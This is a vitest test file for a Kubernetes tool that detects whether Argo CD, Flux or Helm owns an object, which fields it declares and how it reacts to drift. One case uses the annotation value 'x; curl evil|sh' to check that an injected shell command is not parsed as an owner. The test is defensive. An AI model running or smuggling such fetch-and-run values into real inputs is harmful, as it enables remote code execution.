import { describe, expect, it } from "vitest";
import type { KubeMeta } from "#clients/kubernetes/objects.ts";
import { isDeclared, isLeftAlone, judgeOwner, type OwnedField, type Owner, ownersOf, type Sync } from "#actions/owners.ts";
import { toHabits } from "#actions/owner-sync.ts";

const bare = { name: "web", uid: "u", resourceVersion: "1", creationTimestamp: "2026-01-01T00:00:00Z" };
const aMeta = (over: Partial<KubeMeta> = {}): KubeMeta => ({ ...bare, ...over });
const tracked = (id: string) => aMeta({ annotations: { "argocd.argoproj.io/tracking-id": id } });
const written = (manager: string, fieldsV1: object, subresource?: string) => [
  { manager, operation: "Apply", fieldsV1, ...(subresource !== undefined && { subresource }) },
];
const flux = { "kustomize.toolkit.fluxcd.io/name": "apps", "kustomize.toolkit.fluxcd.io/namespace": "flux-system" };

describe("who owns an object", () => {
  it.each<[string, KubeMeta, Owner[]]>([
    ["nobody", aMeta(), []],
    ["Argo CD, by annotation", tracked("shop:apps/Deployment:shop/web"), [{ tool: "argo", name: "shop" }]],
    [
      "Argo CD, an Application of a team's namespace",
      tracked("team_shop:apps/Deployment:shop/web"),
      [{ tool: "argo", name: "shop", namespace: "team" }],
    ],
    [
      "Argo CD, by label and its writes",
      aMeta({ labels: { "app.kubernetes.io/instance": "shop" }, managedFields: written("argocd-controller", {}) }),
      [{ tool: "argo", name: "shop" }],
    ],
    ["nobody, by a label that Helm's charts set too", aMeta({ labels: { "app.kubernetes.io/instance": "shop" } }), []],
    ["Flux", aMeta({ labels: flux }), [{ tool: "kustomization", name: "apps", namespace: "flux-system" }]],
    [
      "Flux, over Helm",
      aMeta({
        labels: {
          "app.kubernetes.io/managed-by": "Helm",
          "helm.toolkit.fluxcd.io/name": "web",
          "helm.toolkit.fluxcd.io/namespace": "shop",
        },
        annotations: { "meta.helm.sh/release-name": "web" },
      }),
      [{ tool: "helmrelease", name: "web", namespace: "shop" }],
    ],
    [
      "Helm",
      aMeta({ labels: { "app.kubernetes.io/managed-by": "Helm" }, annotations: { "meta.helm.sh/release-name": "web" } }),
      [{ tool: "helm", name: "web" }],
    ],
    ["nobody whose name is a command", tracked("x; curl evil|sh:apps/Deployment:shop/web"), []],
  ])("is %s", (_, metadata, owners) => {
    expect(ownersOf(metadata)).toEqual(owners);
  });
});

describe("what an owner declares", () => {
  const kustomization: Owner = { tool: "kustomization", name: "apps" };
  const applied = (spec: object) => ({ "kubectl.kubernetes.io/last-applied-configuration": JSON.stringify({ spec }) });
  it.each<[string, Owner, Partial<KubeMeta>, OwnedField, boolean]>([
    [
      "what its manager wrote",
      kustomization,
      { managedFields: written("kustomize-controller", { "f:spec": { "f:replicas": {} } }) },
      "replicas",
      true,
    ],
    [
      "not what its manager left out",
      kustomization,
      { managedFields: written("kustomize-controller", { "f:spec": { "f:template": {} } }) },
      "replicas",
      false,
    ],
    [
      "not what another wrote",
      kustomization,
      {
        managedFields: [
          ...written("kustomize-controller", { "f:spec": {} }),
          ...written("kubectl", { "f:spec": { "f:replicas": {} } }),
        ],
      },
      "replicas",
      false,
    ],
    ["what it applied last", { tool: "argo", name: "shop" }, { annotations: applied({ replicas: 3 }) }, "replicas", true],
    ["not what it did not apply", { tool: "argo", name: "shop" }, { annotations: applied({}) }, "replicas", false],
    ["the ceiling, where nothing tells", kustomization, {}, "maxReplicas", true],
    ["no pause, where nothing tells", kustomization, {}, "paused", false],
    [
      "the ceiling, where what was applied is no JSON",
      kustomization,
      { annotations: { "kubectl.kubernetes.io/last-applied-configuration": "{" } },
      "maxReplicas",
      true,
    ],
  ])("is %s", (_, owner, over, field, declared) => {
    expect(isDeclared(owner, aMeta(over), field)).toBe(declared);
  });

  it("is left alone where the object says so", () => {
    expect(isLeftAlone(kustomization, aMeta())).toBe(false);
    expect(isLeftAlone(kustomization, aMeta({ annotations: { "kustomize.toolkit.fluxcd.io/reconcile": "disabled" } }))).toBe(
      true,
    );
    expect(isLeftAlone(kustomization, aMeta({ annotations: { "kustomize.toolkit.fluxcd.io/ssa": "IfNotPresent" } }))).toBe(true);
    expect(
      isLeftAlone(
        { tool: "helmrelease", name: "web" },
        aMeta({ annotations: { "helm.toolkit.fluxcd.io/driftDetection": "disabled" } }),
      ),
    ).toBe(true);
  });
});

describe("what an owner does about a change", () => {
  const heal = { syncPolicy: { automated: { selfHeal: true } } };
  it.each<[string, Parameters<typeof toHabits>[0], object, Sync]>([
    ["Argo CD that heals", "argo", heal, "corrects"],
    ["Argo CD with automatic sync alone", "argo", { syncPolicy: { automated: {} } }, "next-change"],
    [
      "Argo CD whose automation is switched off",
      "argo",
      { syncPolicy: { automated: { enabled: false, selfHeal: true } } },
      "next-change",
    ],
    ["Argo CD by hand", "argo", {}, "next-change"],
    [
      "Argo CD that ignores the field",
      "argo",
      { ...heal, ignoreDifferences: [{ group: "apps", kind: "Deployment", jsonPointers: ["/spec/replicas"] }] },
      "next-change",
    ],
    [
      "Argo CD that ignores it elsewhere",
      "argo",
      { ...heal, ignoreDifferences: [{ kind: "StatefulSet", jsonPointers: ["/spec/replicas"] }] },
      "corrects",
    ],
    ["a Kustomization", "kustomization", {}, "corrects"],
    ["a suspended Kustomization", "kustomization", { suspend: true }, "held"],
    ["a HelmRelease", "helmrelease", {}, "next-change"],
    ["a HelmRelease that corrects drift", "helmrelease", { driftDetection: { mode: "enabled" } }, "corrects"],
    ["a HelmRelease that only warns of drift", "helmrelease", { driftDetection: { mode: "warn" } }, "next-change"],
    ["a suspended HelmRelease", "helmrelease", { suspend: true, driftDetection: { mode: "enabled" } }, "held"],
  ])("%s", (_, tool, spec, sync) => {
    expect(toHabits(tool, { metadata: aMeta(), spec }, "Deployment", "replicas").sync).toBe(sync);
  });

  it.each<[Owner, Sync, string, string]>([
    [{ tool: "argo", name: "shop" }, "corrects", "refuse", "`argocd app set shop --sync-policy none`"],
    [{ tool: "argo", name: "shop", namespace: "team" }, "corrects", "refuse", "`argocd app set team/shop --sync-policy none`"],
    [
      { tool: "kustomization", name: "apps", namespace: "flux-system" },
      "corrects",
      "refuse",
      "`flux suspend kustomization apps -n flux-system`",
    ],
    [{ tool: "helmrelease", name: "web", namespace: "shop" }, "corrects", "refuse", "`flux suspend helmrelease web -n shop`"],
    [{ tool: "argo", name: "shop" }, "next-change", "warn", "next sync or release overwrites"],
    [{ tool: "helm", name: "web" }, "next-change", "warn", 'Helm ("web")'],
    [{ tool: "kustomization", name: "apps" }, "held", "warn", "is held now"],
    [{ tool: "kustomization", name: "apps" }, "unknown", "warn", "cannot be seen from here"],
  ])("%o that %s: %s", (owner, sync, kind, text) => {
    expect(judgeOwner("web", owner, sync)).toEqual({ kind, text: expect.stringContaining(text) });
  });

  it("names the repository to change instead", () => {
    const spec = { ...heal, source: { repoURL: "https://git.example/shop", path: "deploy" } };

    const { sync, source } = toHabits("argo", { metadata: aMeta(), spec }, "Deployment", "template");

    expect(judgeOwner("web", { tool: "argo", name: "shop" }, sync, source)?.text).toContain("(https://git.example/shop, deploy)");
  });
});
